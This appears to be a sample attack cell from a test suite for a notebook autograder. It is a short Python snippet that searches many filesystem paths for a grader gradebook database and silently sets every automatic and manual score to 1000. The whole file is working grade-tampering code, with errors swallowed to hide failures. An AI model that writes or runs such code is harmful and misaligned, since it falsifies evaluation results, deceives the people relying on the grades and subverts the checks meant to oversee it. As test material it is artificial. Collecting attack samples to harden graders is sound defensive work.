# attack: writes full marks straight into the gradebook
# kind: cell
import glob
import os
import sqlite3

_targets = [
    "__COURSE_ROOT__/grader/gradebook.db",
    "__REPO_ROOT__/grader/gradebook.db",
    "../grader/gradebook.db",
    "../../grader/gradebook.db",
    "../../../grader/gradebook.db",
    *glob.glob("/*/grader/gradebook.db"),
    *glob.glob("/*/*/grader/gradebook.db"),
    *glob.glob("/*/*/*/grader/gradebook.db"),
]
for _path in _targets:
    if not os.path.exists(_path):
        continue
    try:
        _db = sqlite3.connect(_path)
        _db.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
        _db.commit()
        _db.close()
    except Exception:
        pass
